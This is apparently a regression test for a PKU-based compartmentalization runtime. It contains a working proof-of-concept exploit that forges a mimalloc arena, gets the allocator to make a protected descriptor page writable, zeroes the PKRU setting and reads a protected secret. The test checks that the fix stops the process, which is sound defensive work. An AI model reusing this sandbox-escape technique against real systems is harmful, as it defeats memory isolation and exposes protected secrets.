// Review (attackA): the default domain's own allocator (the process-wide
// libmimalloc.so the driver links) keeps its arena table in key-0 memory,
// and its system calls are not checked (only the compartment copies' are,
// runtime/heap.c). With plain stores the default domain registers a forged
// arena whose start lies in the executable's .data, below the descriptor
// pages; its next segment comes from there, and committing it is an
// mprotect(PROT_READ|PROT_WRITE) over the following 32 MiB: the read-only
// page of __bulkhead_domain0 becomes writable (as in issue 11, break 1, but
// through the default heap). One more store makes every gate into the
// default domain install PKRU 0, and the default domain reads the vault.
// Addresses: /proc/self/maps, the executable's symbols, and the location of
// libmimalloc's arena table read off its exported mi_arena_area's code.
// Fixed: the default domain's allocator's system calls are checked like
// the copies' (runtime/heap.c): the forged commit stops the process.
// Before: "LEAK: PKRU 0x0, vault secret".
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: not %run %t > %t.out 2> %t.err
// RUN: FileCheck %s --check-prefix=STOP < %t.err
// RUN: not grep LEAK %t.out %t.err
// STOP: bulkhead: error: the allocator of the default domain called mprotect on 0x{{[0-9a-f]+}}, outside its heap
#include "Inputs/check.h"

#include <elf.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>

BULKHEAD_DATA(vault) static char secret[32] = "the vault's secret";

BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

/* Zeroed, writable, in .data (before the runtime's .data and the descriptor
 * pages): the forged segment's header and first page land at a 32 MiB
 * boundary inside it (mimalloc finds a block's segment by alignment). Any
 * writable key-0 memory below the descriptors would do. */
#define PAD_SIZE (34u << 20)
#define SEGMENT ((uintptr_t)32 << 20)
__attribute__((section(".data.review_pad"), aligned(4096))) char pad[PAD_SIZE]
    __asm__("review_pad");

static unsigned long symbol_value(const char *name) {
  int fd = open("/proc/self/exe", O_RDONLY);
  CHECK(fd >= 0);
  struct stat st;
  CHECK(fstat(fd, &st) == 0);
  const unsigned char *m = mmap(NULL, st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
  CHECK(m != MAP_FAILED);
  const Elf64_Ehdr *eh = (const void *)m;
  const Elf64_Shdr *sh = (const void *)(m + eh->e_shoff);
  for (int s = 0; s < eh->e_shnum; s++) {
    if (sh[s].sh_type != SHT_SYMTAB)
      continue;
    const Elf64_Sym *sym = (const void *)(m + sh[s].sh_offset);
    const char *str = (const char *)(m + sh[sh[s].sh_link].sh_offset);
    for (size_t k = 0; k < sh[s].sh_size / sizeof *sym; k++)
      if (!strcmp(str + sym[k].st_name, name))
        return sym[k].st_value;
  }
  fprintf(stderr, "no symbol %s\n", name);
  exit(1);
}

/* The permissions /proc/self/maps gives the page holding p ("rw-p"...).
 * No stdio: once the forged segment is in use, a free of a block from it
 * would crash mimalloc. */
static void perms_of(const void *p, char out[5]) {
  static char buf[1 << 16];
  int fd = open("/proc/self/maps", O_RDONLY);
  CHECK(fd >= 0);
  size_t n = 0;
  ssize_t k;
  while (n < sizeof buf - 1 && (k = read(fd, buf + n, sizeof buf - 1 - n)) > 0)
    n += (size_t)k;
  close(fd);
  buf[n] = 0;
  strcpy(out, "????");
  for (char *line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
    unsigned long lo, hi;
    char pr[5];
    if (sscanf(line, "%lx-%lx %4s", &lo, &hi, pr) == 3 && (uintptr_t)p >= lo &&
        (uintptr_t)p < hi) {
      memcpy(out, pr, 5);
      break;
    }
  }
}

/* mimalloc 2.0's arena (arena.c), as its code lays it out. */
struct mi_arena {
  int id;
  _Bool exclusive;
  char *start;
  size_t block_count, field_count;
  int numa_node;
  _Bool is_zero_init, allow_decommit, is_large;
  size_t search_idx;
  size_t *blocks_dirty, *blocks_committed;
  size_t blocks_inuse[1];
};
static struct mi_arena fake;
static size_t dirty, committed;

int main(int argc, char **argv) {
  /* The default domain's libmimalloc: the mapping of libmimalloc.so at
   * offset 0 (the compartments' copies are memfd mappings). */
  FILE *f = fopen("/proc/self/maps", "r");
  CHECK(f);
  char line[512];
  uintptr_t mi = 0;
  while (!mi && fgets(line, sizeof line, f)) {
    unsigned long lo, off;
    if (strstr(line, "libmimalloc.so") && sscanf(line, "%lx-%*x %*s %lx", &lo, &off) == 2 &&
        off == 0)
      mi = lo;
  }
  fclose(f);
  CHECK(mi);
  /* mi_arenas, from mi_arena_area's `lea mi_arenas(%rip), %rax`
   * (48 8d 05 rel32); mi_arena_count, from mi_manage_os_memory_ex's
   * `lock xadd %rax, mi_arena_count(%rip)` (f0 48 0f c1 05 rel32). */
  const unsigned char *code = (const unsigned char *)mi + 0xb180; /* mi_arena_area */
  const unsigned char *lea = memmem(code, 64, "\x48\x8d\x05", 3);
  CHECK(lea);
  void **arenas = (void **)(lea + 7 + *(const int32_t *)(lea + 3));
  const unsigned char *ex = (const unsigned char *)mi + 0xb320; /* mi_manage_os_memory_ex */
  const unsigned char *xadd = memmem(ex, 512, "\xf0\x48\x0f\xc1\x05", 5);
  CHECK(xadd);
  size_t *count = (size_t *)(xadd + 9 + *(const int32_t *)(xadd + 5));
  CHECK(*count == 0 && arenas[0] == NULL);

  /* (not &main: in instrumented code that is a wrapper's address) */
  uintptr_t exe = (uintptr_t)pad - symbol_value("review_pad");
  uint32_t *domain0 = (uint32_t *)(exe + symbol_value("__bulkhead_domain0"));
  char p0[5];
  perms_of(domain0, p0);
  CHECK(!strcmp(p0, "r--p"));
  CHECK((char *)domain0 >= pad + sizeof pad);

  /* The attack: a free, uncommitted arena block starting at pad. */
  fake.id = 0;
  /* The last segment boundary in pad with room for the header and a page. */
  char *start = (char *)(((uintptr_t)pad + PAD_SIZE - (128u << 10)) & ~(SEGMENT - 1));
  /* For a few load addresses in 256 the boundary falls in pad's last
   * 128 KiB and the segment ends below __bulkhead_domain0: run again at
   * another (at most 8 times). */
  if ((char *)domain0 >= start + SEGMENT && argc < 8) {
    char *again[9] = {0};
    for (int k = 0; k <= argc; k++)
      again[k] = argv[argc > k ? k : 0];
    execv("/proc/self/exe", again);
  }
  CHECK(start >= pad && (char *)domain0 < start + SEGMENT);
  fake.start = start;
  fake.block_count = 1;
  fake.field_count = 1;
  fake.numa_node = -1;
  fake.allow_decommit = 1;
  fake.blocks_dirty = &dirty;
  fake.blocks_committed = &committed;
  arenas[0] = &fake;
  *count = 1;

  /* Ordinary default-domain allocations until the thread needs a segment. */
  int in_pad = 0;
  for (int k = 0; k < 20000 && !in_pad; k++) {
    char *b = malloc(8192);
    in_pad = b >= start && b < pad + sizeof pad;
  }
  char p1[5];
  perms_of(domain0, p1);
  fprintf(stderr, "attacks-review-default-arena: segment from the forged arena: %s; "
          "__bulkhead_domain0's page: %s -> %s\n", in_pad ? "yes" : "no", p0, p1);
  if (p1[1] == 'w') {
    fprintf(stderr, "attacks-review-default-arena: default domain PKRU was 0x%x\n", domain0[0]);
    domain0[0] = 0;              /* every key open */
    int n = vault_len();         /* the way back installs domain0's PKRU */
    char stolen[33] = {0};
    for (int k = 0; k < 32; k++)
      stolen[k] = ((volatile char *)secret)[k];
    fprintf(stderr, "attacks-review-default-arena: LEAK: PKRU 0x%x, vault secret (%d bytes) \"%s\"\n",
            test_rdpkru(), n, stolen);
    fflush(stderr);
    _exit(1);
  }
  printf("attacks-review-default-arena: ok\n");
  fflush(stdout);
  _exit(0);
}
